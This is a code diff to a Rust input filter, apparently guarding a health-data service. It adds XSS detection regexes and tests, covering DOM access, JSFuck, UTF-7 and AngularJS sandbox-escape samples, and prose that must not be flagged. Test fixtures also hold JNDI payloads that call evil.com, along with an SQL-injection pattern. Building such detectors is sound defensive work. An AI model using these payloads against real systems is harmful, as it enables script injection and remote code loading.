@@ -321,6 +321,29 @@ const VALUE_RULES: &[Rule] = &[
         pattern: r#"(?:^|[\s"'/;])on(?:error|load|click|dblclick|mouse[a-z]+|focus[a-z]*|blur|change|submit|key[a-z]+|toggle|animation[a-z]+|transition[a-z]+|pointer[a-z]+|begin|start|end|input|select|scroll|wheel|drag[a-z]*|drop|copy|cut|paste|resize|unload|beforeunload|abort|play[a-z]*|pause|show|hashchange|message|popstate|readystatechange|auxclick|contextmenu|touch[a-z]+|search|invalid|reset|error)\s*="#,
     },
     Rule {
+        id: "xss-130",
+        class: Class::Xss,
+        // The DOM reached from script, comments or brackets allowed between the steps
+        // (`document /*x*/ . cookie`, `self["alert"]`, `(document)["cookie"]`).
+        // Words that are also prose ("the window. Body temperature…") only right after the
+        // dot.
+        pattern: r#"\b(?:document|window|self|top|parent|frames)\)?\s*(?:/\*[^*]*\*/\s*)*(?:\.\s*(?:/\*[^*]*\*/\s*)*(?:cookie|domain|createelement|queryselector(?:all)?|getelementby[a-z]+|writeln|globaleval)\b|\[\s*(?:/\*[^*]*\*/\s*)*["'`])|\b(?:document|window|self|top|parent)\.(?:location|write|body|open|name|origin|alert|eval)\b"#,
+    },
+    Rule {
+        id: "xss-131",
+        class: Class::Xss,
+        // Script's dialogs and string evaluators called, written as code is (no space before
+        // the parenthesis: "alert (high)" is prose).
+        pattern: r"\b(?:alert|prompt|confirm|settimeout|setinterval|execscript|atob|btoa|globaleval)\(",
+    },
+    Rule {
+        id: "xss-132",
+        class: Class::Xss,
+        // Obfuscations: JSFuck (`(![]+[])`, `+!![]`), UTF-7 `+ADw-`, AngularJS's sandbox
+        // escape `constructor.constructor(`, VML and `noscript` elements.
+        pattern: r"\(!\[\]\s*\+\s*\[\]\)|\+!!\[\]|!\+\[\]|\+ad[w4]-|constructor\s*\.\s*constructor\s*\(|<\s*/?\s*(?:[a-z]*:)?(?:vmlframe|noscript)\b",
+    },
+    Rule {
         id: "sqli-110",
         class: Class::Sqli,
         pattern: r"\bunion\b[\s+(/*!0-9]+(?:all|distinct)?[\s+(/*!]*select\b|\binto[\s+]+(?:out|dump)file\b|\b(?:sleep|benchmark|pg_sleep)\s*\(\s*\d|\bwaitfor[\s+]+delay\b|information_schema|\bload_file\s*\(|@@version|\bversion\s*\(\s*\)|;\s*(?:drop|shutdown|truncate)\s+\w|\b(?:or|and)[\s+]+(\d+)[\s+]*=[\s+]*\d+|'[\s+]*(?:or|and)[\s+]*'|\blimit[\s+]+\d+\s*,\s*\d+\s*(?:--|#|/\*)",
@@ -923,6 +946,13 @@ mod tests {
             ("https://foo.bar?", "rfi"),
             ("$&LBRACE;jndi:ldap://evil.com/webshell}", "jndi"),
             ("%24%5Cu007Bjndi%3Aldap%3A%2F%2Fevil.com%2Fx%7D", "jndi"),
+            ("document /*foo*/ .     cookie", "xss"),
+            ("self[\"alert\"](1)", "xss"),
+            ("x\";setTimeout(name, 1)//", "xss"),
+            ("%2B!![]", "xss"),
+            ("%2bADw-script%2bAD4-", "xss"),
+            ("{{constructor.constructor('alert(1)')()}}", "xss"),
+            ("<v:vmlframe src=\"foo.com/sup.fml\"/>", "xss"),
             ("printer)(uid=*)", "ldapi"),
             ("*)!(sn=*", "ldapi"),
             ("val)|(uid=*", "ldapi"),
@@ -1101,6 +1131,9 @@ mod tests {
             "the process went well",
             "blood pressure (left)(sitting)",
             "HbA1c (NGSP) (n=2) 5.6%",
+            "Alert (high): confirm with the doctor",
+            "the document body was scanned",
+            "opened the window. Body temperature 37.2",
             "https://example.org/fhir?_count=10",
             "http://hl7.org/fhir/sid/icd-10",
             "what is the file?",
